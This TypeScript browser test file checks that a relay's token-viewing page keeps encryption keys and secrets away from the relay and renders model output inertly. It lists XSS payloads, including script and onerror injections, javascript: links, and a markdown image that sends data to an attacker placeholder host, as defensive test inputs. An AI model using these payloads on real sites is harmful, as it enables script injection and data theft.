/** What the page keeps from the relay, and from the writer of what it shows. */

import assert from "node:assert/strict";
import { viewLink } from "../../src/client/view_link.ts";
import { generateKey, parseKey } from "../../src/crypto/key.ts";
import { mintToken } from "../../src/relay/token.ts";
import { sharedBrowser } from "../helpers/browser.ts";
import { until } from "../helpers/within.ts";
import { pageTest, rendered, shows, startStage, stateIs } from "./stage.ts";

const browser = sharedBrowser();
const CONTENT = "nobody-between-can-read-this";

/** All ways in which a key may be written. */
function spellings(key: string): string[] {
  const bytes = parseKey(key);
  const base64url = bytes.toBase64({ alphabet: "base64url", omitPadding: true });
  const base64 = bytes.toBase64();
  return [base64, encodeURIComponent(base64), base64.slice(0, -1), base64url, bytes.toHex()];
}

pageTest(
  "a key in the fragment decrypts, and neither it nor the text is in anything the relay gets",
  async () => {
    await using stage = await startStage();
    const key = generateKey();
    await using producer = await stage.produce("job-7", { encryptionKey: key });
    const link = viewLink(stage.recorder.url, "job-7", { key });
    assert.match(link, /\/view\/job-7#key=[\w-]{43}$/);
    await using view = await browser.open(link);
    const { page } = view;
    for (let i = 0; i < 20; i++) await producer.sendToken(`${CONTENT} ${i}\n\n`);
    await shows(page, `${CONTENT} 19`);
    stage.recorder.cut(); // what is said again after a reconnect counts too
    await producer.done();
    await stateIs(page, "Done");
    await page.reload();
    await stateIs(page, "Done");
    await shows(page, `${CONTENT} 19`);
    const { said } = stage.recorder;
    for (const spelling of spellings(key)) assert.ok(!said.includes(spelling));
    assert.ok(!said.includes(CONTENT));
    // or else nothing was listened to
    assert.ok(said.includes("GET /view/job-7 HTTP/1.1"));
    assert.ok(said.includes(`"type":"hello","role":"consume","position":"${producer.epoch}:`));
    assert.ok(said.includes('{"type":"enc","d":"'));
  },
);

pageTest("with a wrong key nothing is shown, and the right one may be given", async () => {
  await using stage = await startStage();
  const key = generateKey();
  await using producer = await stage.produce("job-7", { encryptionKey: key });
  await producer.sendToken(CONTENT);
  await producer.done();
  await using view = await browser.open(stage.page("job-7", `#key=${"00".repeat(32)}`));
  const { page } = view;
  await stateIs(page, "Cannot open the message: wrong key, or the message was altered on the way.");
  assert.equal(await rendered(page), "");
  await page.getByLabel("Encryption key").fill(key);
  await page.keyboard.press("Enter");
  await stateIs(page, "Done");
  assert.equal(await rendered(page), CONTENT);
  assert.ok(spellings(key).every((spelling) => !stage.recorder.said.includes(spelling)));
  assert.deepEqual(view.faults, []);
});

pageTest(
  "without a key the page of an encrypted channel asks for it, and takes no bad one",
  async () => {
    await using stage = await startStage();
    const key = generateKey();
    await using producer = await stage.produce("job-7", { encryptionKey: key });
    await producer.sendToken(CONTENT);
    await producer.done();
    await using view = await browser.open(stage.page("job-7"));
    const { page } = view;
    await stateIs(page, "The channel is encrypted");
    await page.getByLabel("Encryption key").fill("no key at all");
    await page.keyboard.press("Enter");
    await stateIs(page, "Cannot use the encryption key");
    await page.getByLabel("Encryption key").fill(key);
    await page.keyboard.press("Enter");
    await stateIs(page, "Done");
    assert.equal(await rendered(page), CONTENT);
  },
);

pageTest("a credential is asked for where it is missing, and is in no address", async () => {
  await using stage = await startStage({ secret: "s3cret&more" });
  await using producer = await stage.produce("job-7", { secret: "s3cret&more" });
  await producer.sendToken("for holders only");
  await producer.done();
  await using view = await browser.open(stage.page("job-7", "#token=wrong"));
  const { page } = view;
  await page.getByLabel("Token or secret of the relay").fill("s3cret&more");
  await page.keyboard.press("Enter");
  await stateIs(page, "Done");
  assert.equal(await rendered(page), "for holders only");
  assert.deepEqual(view.requests.filter((url) => url.includes("s3cret")), []);
  await using linked = await browser.open(stage.page("job-7", "?token=s3cret%26more"));
  await stateIs(linked.page, "Done");
});

pageTest(
  "a token for one use is good for its page, reloads and reconnects included, and for no other",
  async () => {
    await using stage = await startStage({ secret: "s3cret" });
    await using producer = await stage.produce("job-7", { secret: "s3cret" });
    await producer.sendToken("for one reader");
    const claims = { channel: "job-7", roles: ["consume"], ttlMs: 600_000, maxUses: 1 } as const;
    const token = await mintToken("s3cret", claims);
    const link = viewLink(stage.recorder.url, "job-7", { token });
    await using view = await browser.open(link);
    await shows(view.page, "for one reader");
    await view.page.reload();
    await shows(view.page, "for one reader");
    await using other = await browser.open(link);
    await other.page.getByLabel("Token or secret of the relay").waitFor();
    stage.recorder.cut();
    await producer.sendToken(" only");
    await producer.done();
    await shows(view.page, "for one reader only");
    await stateIs(view.page, "Done");
    assert.equal(await rendered(other.page), "");
    assert.ok(stage.recorder.said.includes(token)); // in a hello
    assert.deepEqual([...view.requests, ...other.requests].filter((url) => /\?/.test(url)), []);
  },
);

/** What models write, and what attackers make them write. */
const ATTACKS = [
  "<script>globalThis.attacked = 1</script>",
  "<img src=x onerror='globalThis.attacked = 1'>",
  "<svg onload=globalThis.attacked=1><animate onbegin=globalThis.attacked=1>",
  "<iframe srcdoc='<script>parent.attacked = 1</script>'></iframe>",
  "<style>body{display:none}</style><link rel=stylesheet href=https://attacker.invalid/x.css>",
  "<form action=https://attacker.invalid><input name=password autofocus></form>",
  "<base href=https://attacker.invalid/><meta http-equiv=refresh content='0;https://attacker.invalid'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=globalThis.attacked=1&gt;'>",
  "<a id=state name=channel href='javascript:globalThis.attacked=1'>clobber</a>",
  "[a](javascript:globalThis.attacked=1) [b](data:text/html,<script>1</script>) [c](/produce/job-7)",
  "![x](https://attacker.invalid/stolen?text=secret)",
  "[ref]: javascript:globalThis.attacked=1\n\n[ref]",
  '```"><script>globalThis.attacked=1</script>\ncode\n```',
  '<https://attacker.invalid/" onmouseover=globalThis.attacked=1 x=">',
];

for (const encryptionKey of [undefined, "11".repeat(32)]) {
  const tokens = encryptionKey === undefined ? "tokens" : "encrypted tokens";
  pageTest(`nothing that ${tokens} say is run, loaded or sent; it is shown`, async () => {
    await using stage = await startStage();
    await using producer = await stage.produce("job-7", { encryptionKey });
    await using view = await browser.open(
      stage.page("job-7", encryptionKey && `#key=${encryptionKey}`),
    );
    const { page } = view;
    for (const attack of ATTACKS) await producer.sendToken(`${attack}\n\n`);
    await producer.log("<script>globalThis.attacked = 1</script>");
    await producer.progress({ step: "<img src=x onerror='globalThis.attacked = 1'>" });
    await producer.done();
    await stateIs(page, "Done");
    await shows(page, "<script>globalThis.attacked = 1</script>");
    for (const link of await page.locator("#rendered a").all()) {
      assert.match(await link.getAttribute("href") ?? "https:", /^https?:/);
    }
    const made = "script, img, svg, iframe, style, link, form, base, meta, object, [onerror], [id]";
    assert.equal(await page.locator("#rendered").locator(made).count(), 0);
    // whoever follows a link that was left gets nowhere either
    for (const link of await page.locator("#rendered a:not([href])").all()) await link.click();
    assert.equal(await page.evaluate("globalThis.attacked"), undefined);
    assert.deepEqual(
      view.requests.filter((url) => !url.startsWith(stage.page("").slice(0, -6))),
      [],
    );
    assert.equal(view.requests.length, 3); // the page, its script, its style
    assert.deepEqual(view.faults, []);
  });
}

pageTest("markup that got past everything else could still do nothing", async () => {
  await using stage = await startStage();
  await using view = await browser.open(stage.page("job-7"));
  const { page } = view;
  // the debugger's own evaluation stands for an attacker's script, which it may not be stopped from being
  await assert.rejects(page.evaluate("document.body.innerHTML = '<b>x</b>'"), /TrustedHTML/);
  await assert.rejects(page.evaluate("fetch('https://attacker.invalid/')"), /Failed to fetch/);
  await page.evaluate(`{
    const violations = globalThis.violations = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));
    const style = document.createElement("style");
    style.textContent = "body { display: none }";
    const image = new Image();
    image.src = "https://attacker.invalid/x.png";
    const frame = document.createElement("iframe");
    frame.src = "https://attacker.invalid/";
    document.body.append(style, image, frame);
  }`);
  await until(async () => {
    const violations = await page.evaluate("globalThis.violations") as string[];
    return ["style-src-elem", "img-src", "frame-src"].every((name) => violations.includes(name));
  }, "the policy to refuse them");
  assert.ok(await page.locator("#channel").isVisible());
});
